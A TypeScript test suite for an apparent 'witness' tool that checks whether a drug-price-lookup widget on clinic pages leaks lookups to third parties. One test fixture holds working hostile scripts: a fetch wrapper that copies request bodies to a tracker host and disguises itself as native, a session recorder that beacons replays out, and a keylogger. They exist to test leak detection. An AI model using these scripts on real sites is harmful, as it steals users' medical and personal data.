/** The witness on pages whose scripts listen, each in its own way, against the real endpoint and sandbox. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, describe, test } from 'node:test';
import { startBrowser } from '../support/browser.ts';
import { chromiumOptions } from '../support/chromium.ts';
import { built, runCommand, startSandboxAndEndpoint } from '../support/command.ts';
import { newFolder } from '../support/folder.ts';
import { startSite } from '../support/site.ts';

/** Milliseconds. */
const patience = 150_000;
const folder = newFolder();
const read = (path: string) => readFileSync(new URL(`../../${path}`, import.meta.url));
const scripts: Record<string, Buffer> = {
  '/embed.js': read('dist/embed.js'),
  '/names.js': read('dist/names.js'),
  '/rrweb.js': read('node_modules/rrweb/dist/rrweb.js'),
  '/posthog-recorder.js': read('node_modules/posthog-js/dist/posthog-recorder.js'),
  '/posthog.js': read('node_modules/posthog-js/dist/module.full.no-external.js'),
};

/** Answers of PostHog's server: it wants sessions recorded, compressed. */
const posthogAnswer = JSON.stringify({
  sessionRecording: { endpoint: '/s/', recorderVersion: 'v2', sampleRate: null },
  supportedCompression: ['gzip-js'],
  autocapture_opt_out: false,
  featureFlags: {},
});

interface Page {
  /** In the head, before the script of the elements. */
  head?: string;
  /** In the body; by default a lookup. */
  body?: string;
  /** What brings the elements; by default scripts of the clinic's own. */
  script?: string;
}

const embedAlone = '<script src="/embed.js" defer></script>';

let endpoint = '';
/** Somebody else's servers. */
let tracker = '';
let recorder = '';
let keylogger = '';
let clinic = '';
const pages = new Map<string, Page>();

async function witness(name: string, page: Page, ...options: string[]) {
  pages.set(`/${name}`, page);
  const { executablePath } = await chromiumOptions();
  const { LD_LIBRARY_PATH = '', HOME = '' } = process.env;
  const args = ['witness', `${clinic}/${name}`, '--browser', executablePath, ...options];
  const profiles = newFolder();
  const result = await runCommand(args, { LD_LIBRARY_PATH, HOME, TMPDIR: profiles }, built, patience);
  const processes = execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' });
  assert.ok(!processes.includes(`--user-data-dir=${profiles}`), 'its browser is closed');
  return result;
}

/** The browser, which starts only without its own sandbox, as in many a container. */
async function unsandboxedBrowser(): Promise<string> {
  const { executablePath } = await chromiumOptions();
  const file = join(newFolder(), 'browser');
  writeFileSync(
    file,
    `#!/bin/sh\ncase " $* " in *" --no-sandbox "*) exec ${executablePath} "$@" ;; esac\nexit 1\n`,
  );
  chmodSync(file, 0o755);
  return file;
}

const lookup = (attributes = '') =>
  `<drug-price-lookup endpoint="${endpoint}" ${attributes}>Call 555-0100.</drug-price-lookup>`;
const failed = (out: string) => out.split('\n').filter((line) => line.startsWith('fail'));

before(async () => {
  ({
    endpoint: { url: endpoint },
  } = await startSandboxAndEndpoint('*', built));
  [tracker, recorder, keylogger] = (await Promise.all(
    [1, 2, 3].map(() =>
      startSite((request, response) => {
        request.resume();
        response.writeHead(200, { 'access-control-allow-origin': '*' }).end('{}');
      }),
    ),
  )) as [string, string, string];
  clinic = await startSite((request, response) => {
    const { url = '/' } = request;
    const page = pages.get(url);
    const script = scripts[url];
    request.resume();
    if (script) response.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
    else if (url.startsWith('/posthog/'))
      response.writeHead(200, { 'content-type': 'application/json' }).end(posthogAnswer);
    else if (page)
      response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>A clinic</title><link rel="icon" href="data:,">
${page.head ?? ''}${page.script ?? `${embedAlone}<script src="/names.js" defer></script>`}</head>
<body><main><h1>A clinic</h1>${page.body ?? lookup()}</main></body></html>`);
    else response.writeHead(404).end('not found');
  });
  // where Chromium comes with npm it is unpacked once
  await (await startBrowser()).close();
});

// most of a visit is waiting for what a page sends late
describe('witness', { concurrency: 4 }, () => {
  test('a page that never comes back from a script is given up, and its browser closed', async () => {
    // held by a request rather than by a loop, which would take the processor from other tests
    const silent = await startSite(() => new Promise(() => undefined));
    const hold = `const request = new XMLHttpRequest(); request.open('GET', '${silent}', false); request.send();`;
    const head = `<script>addEventListener('load', () => setTimeout(() => { ${hold} }, 1000))</script>`;
    const { status, err } = await witness('held', { head }, '--timeout', '15');
    const expected = `page ${clinic}/held keeps the browser busy: it was closed after 15 s`;
    assert.deepEqual([status, err], [2, `drug-price-lookup: ${expected}\n`]);
  });

  test('a page that reloads itself all the time is given up in one line', async () => {
    const head = '<script>setInterval(() => location.reload(), 300)</script>';
    const { status, err } = await witness('reloads', { head });
    assert.match(err, /^drug-price-lookup: .+\n$/);
    assert.equal(status, 2);
  });

  test('without an element, it says which step failed', async () => {
    const file = join(folder, 'none.html');
    const { status, out, err } = await witness('none', { body: '<p>Nothing here.</p>' }, '--out', file);
    assert.equal(status, 2, out);
    assert.match(err, /^drug-price-lookup: the element could not be reached.*no <drug-price-lookup> starts/);
    assert.ok(!existsSync(file));
  });

  test('without an endpoint that answers, it says which step failed', async () => {
    const body = '<drug-price-lookup endpoint="http://127.0.0.1:9"></drug-price-lookup>';
    const { status, out, err } = await witness('down', { body });
    assert.equal(status, 2, out);
    assert.match(err, /^drug-price-lookup: the prices are not shown: \S/);
  });

  test('without a page, it says which step failed', async () => {
    const { executablePath } = await chromiumOptions();
    const { LD_LIBRARY_PATH = '', HOME = '' } = process.env;
    const args = ['witness', `${clinic}/missing`, '--browser', executablePath];
    const { status, err } = await runCommand(args, { LD_LIBRARY_PATH, HOME }, built, patience);
    assert.deepEqual([status, err], [2, `drug-price-lookup: page ${clinic}/missing answers 404\n`]);
  });

  test('a page whose rrweb and PostHog obey the marks: only the endpoint got it, and the receipt says so', async () => {
    const file = join(folder, 'clean.html');
    writeFileSync(file, 'an older receipt');
    const browser = await unsandboxedBrowser();
    const head = `<script src="/posthog-recorder.js" defer></script><script type="module">
      import { record } from '/rrweb.js';
      import posthog from '/posthog.js';
      globalThis.recorded = [];
      record({ emit: (event) => recorded.push(event), maskAllInputs: false });
      posthog.init('phc_test', { api_host: location.origin + '/posthog', autocapture: true,
        opt_out_useragent_filter: true, session_recording: { maskAllInputs: false } });
    </script>`;
    const options = ['--browser', browser, '--out', file, '--force'];
    const { status, out, err } = await witness('clean', { head }, ...options);
    assert.equal(err, '');
    assert.equal(status, 0, out);
    assert.match(out, /^A real lookup follows.*six calls/);
    assert.match(out, /^warn browser: its own sandbox is off/m);
    assert.match(out, /^ok {3}endpoint \S+: it got the medicine, the place and coupon codes, in \d+ calls$/m);
    assert.match(out, /^ok {3}typing: what was typed stayed on the page until Enter\.$/m);
    assert.match(out, /^ok {3}lookup: only the endpoint got it/m);
    // the page, its five scripts, and what PostHog sends of the rest of it
    const [, requests] = new RegExp(`${new URL(clinic).host} \\((\\d+)\\)`).exec(out) ?? [];
    assert.ok(Number(requests) > 7, out);
    const receipt = JSON.parse(readFileSync(join(folder, 'clean.json'), 'utf8')) as Record<string, unknown>;
    assert.deepEqual(receipt.findings, []);
    assert.deepEqual(
      Object.keys(receipt.hosts as object).toSorted(),
      [clinic, endpoint].map((url) => new URL(url).host).toSorted(),
    );
    const page = await (await startBrowser()).newPage();
    await page.setContent(readFileSync(file, 'utf8'));
    await page.getByRole('heading', { level: 1, name: 'Who heard a lookup' }).waitFor();
    await page.getByText('Only the signing endpoint got what was looked up.').waitFor();
    await page.getByRole('rowheader', { name: new URL(endpoint).host }).waitFor();
    await page.getByRole('cell', { name: 'what was typed stayed on the page until Enter' }).waitFor();
    await page.getByRole('cell', { name: /^Chromium [\d.]+, without its own sandbox$/ }).waitFor();
    await page.getByRole('heading', { name: 'What was not tried' }).waitFor();
  });

  test('a script without the list sends what is typed, which is a finding', async () => {
    const { status, out } = await witness('no-list', { script: embedAlone });
    const [fail, ...others] = failed(out);
    assert.match(fail!, /^fail typing: the endpoint was asked for names .+ before Enter\. Load names\.js/);
    assert.deepEqual([status, others], [1, []], out);
  });

  test('a replaced fetch, a recorder that obeys no mark and a keylogger, each heard by whom it tells', async () => {
    const file = join(folder, 'copied.html');
    const head = `<script>
      const real = fetch;
      window.dataLayer = [{ event: 'start' }];
      // it passes for the browser's own in every way: any other the element would pass by
      const { toString } = Function.prototype;
      const copying = {
        async fetch(url, options) {
          void real('${tracker}/copy', { method: 'POST', mode: 'no-cors', body: btoa(String(options?.body)) });
          const answer = await real(url, options);
          const text = await answer.clone().text();
          if (String(url).endsWith('/compare')) dataLayer.push({ event: 'prices', ecommerce: { text } });
          if (String(url).endsWith('/coupon')) console.log('coupon', JSON.parse(text));
          return answer;
        },
        toString() {
          return toString.call(this === copying.fetch ? real : this === copying.toString ? toString : this);
        },
      };
      window.fetch = copying.fetch;
      Function.prototype.toString = copying.toString;
    </script><script type="module">
      import { record } from '/rrweb.js';
      const events = [];
      record({ emit: (event) => events.push(event), maskAllInputs: false, blockClass: 'none' });
      addEventListener('pagehide', async () => {
        const stream = new Blob([JSON.stringify(events)]).stream().pipeThrough(new CompressionStream('gzip'));
        navigator.sendBeacon('${recorder}/replay', await new Response(stream).blob());
      });
    </script><script>
      let typed = '';
      const socket = new WebSocket('${keylogger.replace('http', 'ws')}/keys');
      document.addEventListener('keydown', ({ key }) => {
        typed += key;
        localStorage.typed = btoa(typed);
        navigator.sendBeacon('${keylogger}/key?k=' + encodeURIComponent(key));
      }, true);
    </script>`;
    const { status, out } = await witness(
      'copied',
      { head, body: lookup('suggestions="service"') },
      '--drug',
      'metformin',
      '--location',
      '60614',
      '--out',
      file,
    );
    assert.equal(status, 1, out);
    const { host } = new URL(tracker);
    assert.match(
      out,
      new RegExp(
        `^fail ${host}: it has the medicine, the place and coupon codes by POST .*sent by ${clinic}/copied.*\\. Add the attribute sealed to the element, and look again\\. If it still has it, move ${clinic}/copied`,
        'm',
      ),
    );
    assert.match(out, /^fail this page: it has .*the medicine.* in window\.dataLayer/m);
    assert.match(out, /^fail this page: it has .*coupon codes in the console/m);
    assert.match(
      out,
      /^fail \S+: it has the medicine, the place, prices and coupon codes by POST \S+\/replay/m,
      'through its compression',
    );
    assert.match(
      out,
      /^fail \S+: it has the medicine and the place in pieces, such as letter by letter.*: it hears the keys\. Add the attribute sealed too\.$/m,
    );
    assert.match(out, /^fail this page: it has the medicine and the place in window\.typed/m);
    assert.match(out, /^fail this page: it has the medicine and the place in localStorage typed/m);
    assert.match(
      out,
      /^warn typing: the endpoint was asked for names .+ before Enter, as suggestions="service"/m,
      'the owner has the service asked',
    );
    const receipt = readFileSync(file, 'utf8');
    assert.ok(receipt.includes(host));
    assert.match(receipt, /metformin, 60614|60614, metformin/);
  });

  test('the endpoint that served the script is the one that may have it, also from closed shadow roots', async () => {
    const page = {
      script: `<script type="module" src="${endpoint}/elements.js"></script>`,
      body: '<drug-price-lookup sealed>Call 555-0100.</drug-price-lookup>',
    };
    const { status, out, err } = await witness('served', page);
    assert.equal(status, 0, out + err);
    assert.ok(out.includes(`endpoint ${endpoint}: it got the medicine, the place and coupon codes`), out);
    assert.match(out, /^ok {3}typing: what was typed stayed on the page until Enter/m);
  });

  test('prices without a coupon are not a complete lookup', async () => {
    // a store of a chain that takes cash alone
    const body = lookup('no-search drug="atorvastatin" ncpdp="0504001"');
    const { status, out, err } = await witness('cash', { body });
    assert.equal(status, 2, out + err);
    assert.match(out, /^ok {3}endpoint \S+: it got the medicine/m);
    assert.match(out, /^fail lookup: it could not be completed: no price that is shown has a coupon/m);
  });

  test('a page about one medicine at one pharmacy has neither field', async () => {
    const body = lookup('no-search drug="atorvastatin" ncpdp="0503243"');
    const { status, out, err } = await witness('preset', { body });
    assert.equal(status, 0, out + err);
    assert.match(out, /^ok {3}endpoint \S+: it got the medicine/m);
    assert.match(out, /^warn not tried: a place: the element has no field for it/m);
    const named = await witness('preset', { body }, '--drug', 'metformin');
    assert.deepEqual([named.status, /--drug has no field/.test(named.err)], [2, true], named.err);
  });

  test('without playwright-core, it says how to install it', async () => {
    const alone = join(folder, 'alone');
    cpSync(join(import.meta.dirname, '../../dist'), join(alone, 'dist'), { recursive: true });
    cpSync(join(import.meta.dirname, '../../package.json'), join(alone, 'package.json'));
    const program = { cli: join(alone, 'dist/cli.js') };
    const { status, err } = await runCommand(['witness', clinic], {}, program, patience);
    assert.deepEqual(
      [status, err],
      [2, 'drug-price-lookup: witness needs the package playwright-core: npm install playwright-core\n'],
    );
  });

  test('a file that is not a browser is reported by name', async () => {
    const args = ['witness', clinic, '--browser', built.cli];
    const { status, err } = await runCommand(args, {}, built, patience);
    assert.equal(status, 2);
    assert.match(err, /^drug-price-lookup: --browser \S+cli\.js does not start: \S/);
  });
});
